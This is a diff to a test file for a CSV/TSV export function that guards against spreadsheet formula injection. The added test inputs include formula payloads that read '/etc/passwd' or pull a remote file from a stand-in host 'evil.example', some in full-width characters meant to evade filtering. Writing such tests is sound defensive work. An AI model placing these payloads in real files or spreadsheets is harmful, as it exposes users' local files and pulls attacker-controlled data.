@@ -19,6 +19,9 @@ it('hands no formula to a spreadsheet', () => {
     '－HYPERLINK（"https://evil.example"）',
     '＠SUM(1)',
     '\u3000﹦f()',
+    "='file:///etc/passwd'#$passwd.A1",
+    "+'https://evil.example/a.csv'#$a.A1",
+    '＝＇https://evil.example/a.csv＇＃$a.A1',
   ];
   for (const cell of evil) {
     expect(csvRow([cell])).toMatch(/^"?'/);
@@ -41,10 +44,13 @@ it('leaves alone what only looks a little like one', () => {
     '-0.5',
     '(=)',
     'a (b)',
+    '- the ‘#1’ fan',
     -3.25,
     null,
   ];
-  expect(csvRow(plain)).toBe('- What!,-- (,- No! He,-,--,=,-ing,@amna,+92 300 1234567,-0.5,(=),a (b),-3.25,\r\n');
+  expect(csvRow(plain)).toBe(
+    '- What!,-- (,- No! He,-,--,=,-ing,@amna,+92 300 1234567,-0.5,(=),a (b),- the ‘#1’ fan,-3.25,\r\n',
+  );
   expect(tsvRow(plain)).toBe(csvRow(plain).replaceAll(',', '\t').replace('\r', ''));
   for (const text of ["'twas (once)", "'", "'-ing", "'=", "''=f()"]) expect(unmarked(text)).toBe(text);
 });
@@ -55,6 +61,8 @@ it('puts a line of description in quotes only where a formula could stand betwee
   for (const separator of [',', ';', ', ', ',"', ';" "', ',"=""x,""&']) {
     const line = `# request: /corpus/ngrams?x=1${separator}=HYPERLINK("https://evil.example")`;
     expect(csvComment(line)).toBe(`"${line.replaceAll('"', '""')}"\r\n`);
+    const reading = `# request: /corpus/ngrams?x=1${separator}='https://evil.example/a.csv'#$a.A1`;
+    expect(csvComment(reading)).toBe(`"${reading.replaceAll('"', '""')}"\r\n`);
   }
 });
 
